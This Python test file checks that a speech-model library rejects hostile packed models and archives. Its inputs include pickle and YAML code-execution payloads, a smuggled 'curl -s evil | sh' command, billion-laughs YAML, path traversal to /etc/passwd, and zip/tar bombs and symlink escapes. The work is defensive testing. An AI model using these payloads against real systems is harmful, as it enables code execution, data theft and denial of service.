"""Models and archives of strangers: each is refused in one line, and neither runs nor
writes anything elsewhere.
"""

import io
import re
import shutil
import struct
import tarfile
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
import yaml

import espnet_ext
from espnet_ext.errors import InputError
from espnet_ext.sharing.model_files import find_model
from espnet_ext.sharing.pack import Packing, pack

SECONDS = 20  # of processor time for any of them


class Runs:
    """What leaves a file when it is unpickled."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return Path.touch, (self.path,)


def laughs(levels: int, start: str = "&a0 [x, x]") -> str:
    """YAML of some hundred bytes that stands for 10 ** levels values."""
    lines = [f"k0: {start}"]
    lines += [
        f"k{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, levels)
    ]
    return "\n".join(lines) + "\n"


def merges(levels: int) -> str:
    lines = ["k0: &a0 {x: 1, y: 2}"]
    lines += [
        f"k{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 10)}]}}"
        for n in range(1, levels)
    ]
    return "\n".join(lines) + "\n"


# A file of a packed model, what is added to it (or its whole content), and what the
# line says.
MODELS = {
    "meta: a list": ("meta.yaml", "- a\n", "must hold a mapping"),
    "meta: files is text": (
        "meta.yaml",
        {"files": "model/model.pth"},
        "files is no mapping",
    ),
    "meta: a file is a number": (
        "meta.yaml",
        {"files": {"asr_model_file": 3}},
        "lacks 3",
    ),
    "meta: a file is a folder": (
        "meta.yaml",
        {"files": {"asr_model_file": "model"}},
        "lacks model",
    ),
    "meta: the folder above": (
        "meta.yaml",
        {"files": {"asr_model_file": "../secret"}},
        "outside of the model",
    ),
    "meta: hidden above": (
        "meta.yaml",
        {"files": {"asr_model_file": "a/../../secret"}},
        "outside of the model",
    ),
    "meta: absolute": (
        "meta.yaml",
        {"files": {"asr_model_file": "/etc/passwd"}},
        "outside of the model",
    ),
    "meta: no model": ("meta.yaml", {"files": {}}, "names no model"),
    "meta: a date that is none": ("meta.yaml", "day: 2020-13-45\n", "meta.yaml"),
    "meta: holds itself": ("meta.yaml", "a: &a [*a]\n", "meta.yaml.*holds itself"),
    "meta: a billion laughs": ("meta.yaml", laughs(12), "meta.yaml.*anchors"),
    "meta: merged a billion times": ("meta.yaml", merges(12), "names no model|anchors"),
    "meta: nested deeply": ("meta.yaml", "a: " + "[" * 3000 + "]" * 3000, "meta.yaml"),
    "meta: runs Python": (
        "meta.yaml",
        ("a: !!python/object/apply:os.system ['touch ran']\n"),
        "meta.yaml.*constructor",
    ),
    "meta: twice the same key": ("meta.yaml", "files: {}\nfiles: {}\n", "stands twice"),
    "ours: search is a list": (
        "espnet_ext.yaml",
        {"search": ["beam_size"]},
        "mapping of search options",
    ),
    "ours: another task": ("espnet_ext.yaml", {"task": "enh_s2t"}, "needs a task"),
    "ours: the task is a list": ("espnet_ext.yaml", {"task": ["asr"]}, "needs a task"),
    "ours: enh_s2t_task": (
        "espnet_ext.yaml",
        {"search": {"enh_s2t_task": True}},
        "no option of a search",
    ),
    "ours: a file": (
        "espnet_ext.yaml",
        {"search": {"lm_file": "/etc/passwd"}},
        "no option of a search",
    ),
    "ours: a download": (
        "espnet_ext.yaml",
        {"search": {"model_tag": "a/b"}},
        "no option of a search",
    ),
    "ours: beam_size is text": (
        "espnet_ext.yaml",
        {"search": {"beam_size": "ten"}},
        "beam_size",
    ),
    "ours: beam_size 0": (
        "espnet_ext.yaml",
        {"search": {"beam_size": 0}},
        "beam_size is 0",
    ),
    "ours: ctc_weight is a list": (
        "espnet_ext.yaml",
        {"search": {"ctc_weight": [1]}},
        "ctc_weight",
    ),
    ("config: token_list is a number"): (
        "model/config.yaml",
        {"token_list": 5},
        "cannot be built",
    ),
    "config: token_list is null": (
        "model/config.yaml",
        {"token_list": None},
        "cannot be built",
    ),
    ("config: token_list of another size"): (
        "model/config.yaml",
        {"token_list": ["a", "b"]},
        "does not fit its config",
    ),
    ("config: the encoder is a number"): (
        "model/config.yaml",
        {"encoder": 3},
        "cannot be built",
    ),
    ("config: frontend_conf is a list"): (
        "model/config.yaml",
        {"frontend_conf": [1]},
        "cannot be built",
    ),
    "config: encoder_conf is null": (
        "model/config.yaml",
        {"encoder_conf": None},
        "cannot be built",
    ),
    "config: model_conf is text": (
        "model/config.yaml",
        {"model_conf": "x"},
        "cannot be built",
    ),
    "config: a size is text": (
        "model/config.yaml",
        {"encoder_conf": {"hidden_size": "eight"}},
        "cannot be built",
    ),
    ("config: an option that is none"): (
        "model/config.yaml",
        {"decoder_conf": {"colour": 1}},
        "cannot be built",
    ),
    "config: a size of gigabytes": (
        "model/config.yaml",
        {"decoder_conf": {"hidden_size": 10**12}},
        "cannot be built",
    ),
    ("config: a plugin that is missing"): (
        "model/config.yaml",
        {"encoder": "evil:best"},
        "evil:best .* not installed",
    ),
    "config: a command as a package": (
        "model/config.yaml",
        {"encoder": "x; curl -s evil | sh #:best"},
        ("encoder: '[^']*' names no package"),
    ),
    "config: token_type is null": (
        "model/config.yaml",
        {"token_type": None},
        "token_type",
    ),
    "config: bpemodel is null": (
        "model/config.yaml",
        {"token_type": "bpe", "bpemodel": None},
        "bpemodel",
    ),
    "config: a file above": (
        "model/config.yaml",
        {"normalize_conf": {"stats_file": "../secret"}},
        "outside of the",
    ),
    ("config: a file of this machine"): (
        "model/config.yaml",
        {"bpemodel": "/etc/passwd"},
        "/etc/passwd",
    ),
    "config: a path is a number": (
        "model/config.yaml",
        {"normalize_conf": {"stats_file": 3}},
        "cannot be built",
    ),
    "config: a date that is none": (
        "model/config.yaml",
        "day: 2020-13-45\n",
        "config.yaml",
    ),
    "config: a billion laughs": (
        "model/config.yaml",
        laughs(12),
        "config.yaml.*anchors",
    ),
    "checkpoint: runs code": (
        "model/model.pth",
        lambda path, ran: torch.save({"a": Runs(ran)}, path),
        "model.pth",
    ),
    "checkpoint: text": ("model/model.pth", "hello", "model.pth"),
    "checkpoint: empty": ("model/model.pth", "", "model.pth"),
    "checkpoint: a list": (
        "model/model.pth",
        lambda path, _: torch.save([1], path),
        "does not hold the parameters",
    ),
    "checkpoint: other": (
        "model/model.pth",
        lambda path, _: torch.save({"a": torch.ones(2)}, path),
        "does not fit",
    ),
    "statistics: run code": (
        "model/feats_stats.npz",
        lambda path, ran: np.savez(
            path,
            count=1,
            sum=np.array([Runs(ran)], dtype=object),
            sum_square=np.ones(40),
        ),
        "cannot be built",
    ),
    "statistics: text": ("model/feats_stats.npz", "hello", "cannot be built"),
}


@pytest.fixture
def packed(training):
    """A packed model without a language model."""
    pack(Packing(Path("exp/seed1"), search={"beam_size": 2}), training / "packed")
    (training.parent / "secret").write_text("secret")
    return training / "packed"


def damage(packed: Path, case: str) -> str:
    name, change, message = MODELS[case]
    file = packed / name
    if callable(change):
        change(file, packed / "ran")
    elif isinstance(change, str):
        file.write_text(change)
    else:
        content = yaml.safe_load(file.read_text())
        for key, value in change.items():  # options are added to those there are
            both = (
                isinstance(value, dict)
                and isinstance(content.get(key), dict)
                and key.endswith("_conf")
            )
            content[key] = {**content[key], **value} if both else value
        file.write_text(yaml.safe_dump(content))
    return message


def test_hostile_models(packed, tmp_path):
    assert espnet_ext.load(packed).beam_search.beam_size == 2
    wrong = []
    for number, case in enumerate(MODELS):
        folder = tmp_path / f"model{number}"
        shutil.copytree(packed, folder)
        message = damage(folder, case)
        began = time.process_time()
        try:
            espnet_ext.load(folder)
            wrong.append(f"{case}: loaded")
        except InputError as error:
            line = str(error)
            if not re.search(message, line) or "\n" in line or len(line) > 800:
                wrong.append(f"{case}: {line}")
        except BaseException as error:
            wrong.append(f"{case}: {type(error).__name__}: {str(error)[:200]}")
        if time.process_time() - began > SECONDS:
            wrong.append(f"{case}: {time.process_time() - began:.0f} s")
        if list(folder.rglob("ran")):
            wrong.append(f"{case}: ran code")
    assert not wrong, "\n".join(wrong)


def zipped(path: Path, *members: tuple[str, bytes], **options) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name) if options else name, content)
    return path


def zip_link(path: Path) -> Path:
    """A link and a file through it, as Unix's zip writes them."""
    info = zipfile.ZipInfo("out")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(info, "..")
        archive.writestr("out/escaped", b"x")
    return path


def lying_zip(path: Path) -> Path:
    """A zip whose directory says that a file is small."""
    zipped(path, ("model.pth", bytes(30_000_000)))
    data = bytearray(path.read_bytes())
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    path.write_bytes(data)
    return path


def broken(path: Path, change) -> Path:
    data = bytearray(path.read_bytes())
    path.write_bytes(bytes(change(data)))
    return path


def tarred(path: Path, *members: tarfile.TarInfo) -> Path:
    with tarfile.open(path, "w:gz" if path.suffix == ".tgz" else "w") as archive:
        for each in members:
            archive.addfile(each, io.BytesIO(b"x" * each.size))
    return path


def member(
    name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 1
) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = (
        kind,
        link,
        size if kind == tarfile.REGTYPE else 0,
    )
    return info


ARCHIVES = {
    "up.zip": lambda path: zipped(path, ("../escaped", b"x")),
    "deep.zip": lambda path: zipped(path, ("a/b/../../../escaped", b"x")),
    "root.zip": lambda path: zipped(path, ("/tmp/escaped", b"x")),
    "backslash.zip": lambda path: zipped(path, ("..\\escaped", b"x"), raw=True),
    "drive.zip": lambda path: zipped(path, ("C:\\escaped", b"x"), raw=True),
    "bomb.zip": lambda path: zipped(path, ("model.pth", bytes(50_000_000))),
    "bombs.zip": lambda path: zipped(
        path, *((f"m{n}", bytes(2_000_000)) for n in range(30))
    ),
    "lying.zip": lying_zip,
    "twice.zip": lambda path: zipped(path, ("a", b"x"), ("a", b"y")),
    "file_and_folder.zip": lambda path: zipped(path, ("a", b"x"), ("a/b", b"y")),
    "long.zip": lambda path: zipped(path, ("a" * 300, b"x")),
    "members.zip": lambda path: zipped(path, *((f"m{n}", b"") for n in range(20_000))),
    "folders.zip": lambda path: zipped(path, *((f"m{n}/", b"") for n in range(20_000))),
    "link.zip": zip_link,
    "empty.zip": lambda path: zipped(path),
    "text.zip": lambda path: path.write_text("hello") and path,
    "half.zip": lambda path: broken(
        zipped(path, ("a", bytes(range(256)) * 9)), lambda data: data[: len(data) // 2]
    ),
    "header.zip": lambda path: broken(
        zipped(path, ("a", b"x")), lambda data: data.replace(b"K\x03\x04", b"K\x03\x05")
    ),
    "up.tgz": lambda path: tarred(path, member("../escaped")),
    "deep.tgz": lambda path: tarred(path, member("a/../../escaped")),
    "root.tar": lambda path: tarred(path, member("/tmp/escaped")),
    "bomb.tgz": lambda path: tarred(path, member("model.pth", size=50_000_000)),
    "link.tgz": lambda path: tarred(
        path, member("out", tarfile.SYMTYPE, ".."), member("out/../escaped")
    ),
    "hard.tgz": lambda path: tarred(
        path, member("out", tarfile.LNKTYPE, "/etc/passwd")
    ),
    "members.tar": lambda path: tarred(
        path, *(member(f"m{n}", size=0) for n in range(20_000))
    ),
    "folders.tgz": lambda path: tarred(
        path, *(member(f"m{n}", tarfile.DIRTYPE) for n in range(20_000))
    ),
    "device.tar": lambda path: tarred(path, member("out", tarfile.CHRTYPE)),
    "fifo.tar": lambda path: tarred(path, member("meta.yaml", tarfile.FIFOTYPE)),
    "links_only.tar": lambda path: tarred(
        path, member("meta.yaml", tarfile.SYMTYPE, "/etc/passwd")
    ),
    "twice.tar": lambda path: tarred(path, member("a"), member("a")),
    "half.tgz": lambda path: broken(
        tarred(path, member("a", size=100_000)), lambda data: data[: len(data) // 2]
    ),
    "text.tgz": lambda path: path.write_text("hello") and path,
    "empty.tar": lambda path: tarred(path),
    "nothing.tar.gz": lambda path: path.touch() or path,
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_hostile_archives(tmp_path, name):
    (tmp_path / "sent").mkdir()
    path = ARCHIVES[name](tmp_path / "sent" / name)
    began = time.process_time()
    with pytest.raises(InputError, match=f"sent/{name}: ") as raised:
        find_model(path)
    assert "\n" not in str(raised.value) and time.process_time() - began < SECONDS
    if name.startswith(("members", "folders")):
        assert "more than" in str(raised.value) and time.process_time() - began < 3
    assert (
        not list(tmp_path.parent.rglob("*escaped*"))
        and not Path("/tmp/escaped").exists()
    )
